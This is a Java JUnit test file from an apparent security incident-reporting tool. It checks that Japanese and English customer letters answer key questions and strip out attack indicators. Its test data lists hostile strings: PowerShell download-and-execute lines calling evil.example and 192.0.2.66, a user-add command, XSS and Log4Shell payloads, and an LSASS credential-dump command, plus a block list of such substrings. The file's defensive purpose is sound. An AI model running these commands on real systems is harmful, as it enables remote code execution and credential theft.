package io.mdr4j.reports;

import static org.assertj.core.api.Assertions.assertThat;

import io.mdr4j.customer.Language;
import io.mdr4j.report.FirstReport;
import io.mdr4j.report.FirstReportBuilder;
import io.mdr4j.report.ReportCustomer;
import io.mdr4j.severity.Severity;
import io.mdr4j.text.Letter;
import java.time.ZoneId;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.MethodSource;

@DisplayName("The letter answers the four questions by itself, and gives no gateway a reason to hold it up")
class LetterTest {

    private static final PebbleReportRenderer RENDERER = PebbleReportRenderer.of(SampleReports.SOC);

    private static final List<String> QUESTIONS_JA = List.of("何が起こったか", "危険度はどのくらいか", "どう対応すればよいか", "隔離が必要かどうか");

    /** What gateways quarantine mails for, each with what must not be seen of it. */
    static Stream<String> attacks() {
        return Stream.of(
                "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
                "IEX(New-Object Net.WebClient).DownloadString('http://192.0.2.66/a.ps1')",
                "IEX (iwr evil.example)",
                "cmd /c whoami & net user evil P@ss /add",
                "C:\\Users\\Public\\evil.exe",
                "\\\\fs01\\share\\evil.dll",
                "/tmp/.x/evil.sh",
                "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*",
                "https://evil.example/login",
                "evil.example",
                "192.0.2.66",
                "2001:db8::66",
                "44d88612fea8a8f36de82e1278abb02f",
                "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f",
                "<script>alert(1)</script>",
                "javascript:alert(1)",
                "${jndi:ldap://evil.example/a}",
                "mshta vbscript:Close(Execute(\"x\"))",
                "evil@evil.example",
                "rundll32 comsvcs.dll, MiniDump 624 lsass.dmp full");
    }

    @ParameterizedTest
    @MethodSource("attacks")
    void nothing_of_an_attack_stands_in_letter_or_subject(String attack) {
        for (Severity severity : Severity.values()) {
            FirstReport report = addressed(HostileReports.of(attack, severity));
            for (Language language : Language.values()) {
                String letter = RENDERER.letter(report, language).plain();
                String subject = RENDERER.subject(report, language);
                // An address may stand where a host's name does, if it is formed like one: it is defanged.
                assertThat(letter).doesNotContain(attack);
                assertThat(subject).doesNotContain(attack);
                assertThat(letter + subject)
                        .doesNotContain(
                                "IEX", "powershell", "EICAR", "cmd /c", "\\", "<script", "-enc", "MiniDump", "a.ps1")
                        .doesNotContain(
                                "evil.exe ", "evil.example", "192.0.2.66", "275a021b", "44d88612", "jndi", "mshta");
            }
        }
    }

    @ParameterizedTest
    @EnumSource(Severity.class)
    void the_four_questions_are_answered_for_every_severity(Severity severity) {
        FirstReport report = addressed(HostileReports.of("IEX(x)", severity));

        Letter letter = RENDERER.letter(report, Language.JA);

        assertThat(headings(letter)).containsAll(QUESTIONS_JA).contains("今後の予定", "お問い合わせ");
        assertThat(RENDERER.letter(report, Language.EN).plain())
                .contains("What happened", "How dangerous", "What to do", "solation");
        for (String question : QUESTIONS_JA) {
            assertThat(answer(letter, question)).isNotBlank();
        }
    }

    @Test
    void a_letter_of_a_grave_incident_says_host_times_isolation_and_what_to_do() {
        Letter letter = RENDERER.letter(SampleReports.high(), Language.JA);

        assertThat(letter.plain())
                .contains("ご担当者様", "いつもお世話になっております。")
                .contains("危険度: 高", "PC-", "アラート受領日時: 2026年", "隔離状況: ")
                .contains("・証拠保全のため、当該端末の電源を切らず")
                .contains("お電話にてお問い合わせください。");
    }

    @Test
    void a_long_list_of_hosts_is_cut() {
        Letter letter = RENDERER.letter(SampleReports.high(), Language.EN);

        assertThat(letter.plain().length()).isLessThan(6_000);
    }

    private static FirstReport addressed(FirstReport hostile) {
        return ((FirstReportBuilder) FirstReport.builder()
                        .customer(new ReportCustomer(hostile.customer().id(), "株式会社サンプル", ZoneId.of("Asia/Tokyo")))
                        .incidentNumber("INC-2026-0042")
                        .version(hostile.version())
                        .madeAt(hostile.madeAt())
                        .times(hostile.times())
                        .assessment(hostile.assessment()))
                .addAllTechniques(hostile.techniques())
                .addAllVerdictChanges(hostile.verdictChanges())
                .allowMatch(hostile.allowMatch())
                .lateBecause(hostile.lateBecause())
                .reviewedBy(hostile.reviewedBy())
                .addAllAlerts(hostile.alerts())
                .addAllEndpoints(hostile.endpoints())
                .processes(hostile.processes())
                .addAllDestinations(hostile.destinations())
                .addAllFindings(hostile.findings())
                .addAllActions(hostile.actions())
                .addAllGaps(hostile.gaps())
                .addAllTimeline(hostile.timeline())
                .build();
    }

    private static List<String> headings(Letter letter) {
        return letter.blocks().stream()
                .filter(Letter.Heading.class::isInstance)
                .map(b -> ((Letter.Heading) b).text())
                .toList();
    }

    private static String answer(Letter letter, String question) {
        int at = letter.blocks().indexOf(new Letter.Heading(question));
        return ((Letter.Paragraph) letter.blocks().get(at + 1)).text();
    }
}
